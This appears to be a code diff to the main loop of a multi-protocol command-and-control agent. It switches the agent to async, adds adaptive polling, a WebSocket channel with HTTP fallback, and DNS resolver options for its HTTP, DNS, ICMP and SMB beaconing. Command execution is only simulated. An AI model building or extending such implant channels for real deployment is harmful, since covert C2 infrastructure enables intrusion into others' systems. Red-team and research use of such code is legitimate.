@@ -12,7 +12,8 @@ from config import load_initial_config
 from logger import logger
 from update import check_for_update, perform_update
 
-from protocols.http_comm import HTTPComm
+from protocols.http_comm import HTTPComm, close_client
+from protocols.ws_comm import WSComm
 from protocols.dns_comm import DNSComm
 from protocols.icmp_comm import ICMPComm
 from protocols.smb_comm import SMBComm
@@ -28,25 +29,45 @@ async def heartbeat_task(comm, interval):
         interval (int): The time interval (in seconds) between heartbeats.
     """
     while True:
-        comm.heartbeat()
+        await comm.heartbeat()
         await asyncio.sleep(interval)
 
-async def protocol_polling_task(comm, poll_interval):
+async def protocol_polling_task(comm, poll_interval, min_poll_interval=0.5, max_poll_interval=None):
     """
     Periodically polls for commands from the C2 server and executes them.
 
+    The interval adapts to activity: it halves (down to `min_poll_interval`) after a
+    poll that returned commands and grows by 1.5x (up to `max_poll_interval`) while
+    the channel is idle. Time spent inside the poll itself (e.g. a server-held
+    long-poll) counts towards the interval.
+
     Args:
         comm: The communication instance.
-        poll_interval (int): The polling interval in seconds.
+        poll_interval (int): The initial polling interval in seconds.
+        min_poll_interval (float): Lower bound for the interval while commands are flowing.
+        max_poll_interval (float): Upper bound for the idle interval (defaults to 4x poll_interval).
     """
+    if max_poll_interval is None:
+        max_poll_interval = poll_interval * 4
+    interval = poll_interval
+
+    loop = asyncio.get_running_loop()
     while True:
-        commands = comm.poll_commands()
+        started = loop.time()
+        commands = await comm.poll_commands()
+        polled_for = loop.time() - started
         for cmd in commands:
             logger.info(f"Polling command: {cmd}")
             # Simulate command execution
             result = f"Executed: {cmd}"
-            comm.send_message(result)
-        await asyncio.sleep(poll_interval)
+            await comm.send_output(result)
+        if commands:
+            # Ship all results of this cycle together
+            await comm.flush()
+            interval = max(min_poll_interval, interval / 2)
+        else:
+            interval = min(max_poll_interval, interval * 1.5)
+        await asyncio.sleep(max(0, interval - polled_for))
 
 async def dynamic_config_task(config_update_interval):
     """
@@ -77,38 +98,67 @@ async def main():
     """
     Initializes the agent, loads configurations, and starts all necessary tasks.
     """
-    config = load_initial_config()
+    config = await load_initial_config()
     agent_id = config.get("agent_id")
     auth_token = config.get("auth_token")
     logger.info(f"Agent running on {platform.system()} {platform.release()} with ID: {agent_id}")
 
     tasks = []
+    comms = []
     protocols_config = config.get("protocols", {})
+    poll_settings = (
+        config.get("poll_interval", 10),
+        config.get("min_poll_interval", 0.5),
+        config.get("max_poll_interval"),
+    )
 
     if protocols_config.get("http", {}).get("enabled"):
-        http_comm = HTTPComm(protocols_config["http"]["server_url"], agent_id, auth_token)
-        tasks.append(asyncio.create_task(protocol_polling_task(http_comm, config.get("poll_interval", 10))))
+        http_comm = None
+        if protocols_config["http"].get("websocket"):
+            # Prefer a persistent push channel; fall back to HTTP long-polling if the upgrade fails
+            ws_comm = WSComm(protocols_config["http"]["server_url"], agent_id, auth_token)
+            if await ws_comm.connect():
+                http_comm = ws_comm
+        if http_comm is None:
+            http_comm = HTTPComm(
+                protocols_config["http"]["server_url"], agent_id, auth_token,
+                poll_wait=protocols_config["http"].get("poll_wait", 30),
+            )
+        comms.append(http_comm)
+        tasks.append(asyncio.create_task(protocol_polling_task(http_comm, *poll_settings)))
         tasks.append(asyncio.create_task(heartbeat_task(http_comm, config.get("heartbeat_interval", 30))))
 
     if protocols_config.get("dns", {}).get("enabled"):
-        dns_comm = DNSComm(protocols_config["dns"]["dns_server_ip"], agent_id, auth_token)
-        tasks.append(asyncio.create_task(protocol_polling_task(dns_comm, config.get("poll_interval", 10))))
+        dns_comm = DNSComm(
+            protocols_config["dns"]["dns_server_ip"], agent_id, auth_token,
+            resolvers=protocols_config["dns"].get("resolvers"),
+        )
+        comms.append(dns_comm)
+        tasks.append(asyncio.create_task(protocol_polling_task(dns_comm, *poll_settings)))
         tasks.append(asyncio.create_task(heartbeat_task(dns_comm, config.get("heartbeat_interval", 30))))
 
     if protocols_config.get("icmp", {}).get("enabled"):
         icmp_comm = ICMPComm(protocols_config["icmp"]["target_ip"], agent_id, auth_token)
-        tasks.append(asyncio.create_task(protocol_polling_task(icmp_comm, config.get("poll_interval", 10))))
+        comms.append(icmp_comm)
+        tasks.append(asyncio.create_task(protocol_polling_task(icmp_comm, *poll_settings)))
         tasks.append(asyncio.create_task(heartbeat_task(icmp_comm, config.get("heartbeat_interval", 30))))
 
     if protocols_config.get("smb", {}).get("enabled"):
         smb_comm = SMBComm(protocols_config["smb"]["server_ip"], agent_id, auth_token)
-        tasks.append(asyncio.create_task(protocol_polling_task(smb_comm, config.get("poll_interval", 10))))
+        comms.append(smb_comm)
+        tasks.append(asyncio.create_task(protocol_polling_task(smb_comm, *poll_settings)))
         tasks.append(asyncio.create_task(heartbeat_task(smb_comm, config.get("heartbeat_interval", 30))))
 
     tasks.append(asyncio.create_task(dynamic_config_task(60)))
     tasks.append(asyncio.create_task(self_update_task(300, config.get("update_endpoint", ""))))
 
-    await asyncio.gather(*tasks)
+    try:
+        await asyncio.gather(*tasks)
+    finally:
+        # Release pooled connections held by the communication modules
+        for comm in comms:
+            await comm.close()
+        await close_client()
 
 if __name__ == "__main__":
     try: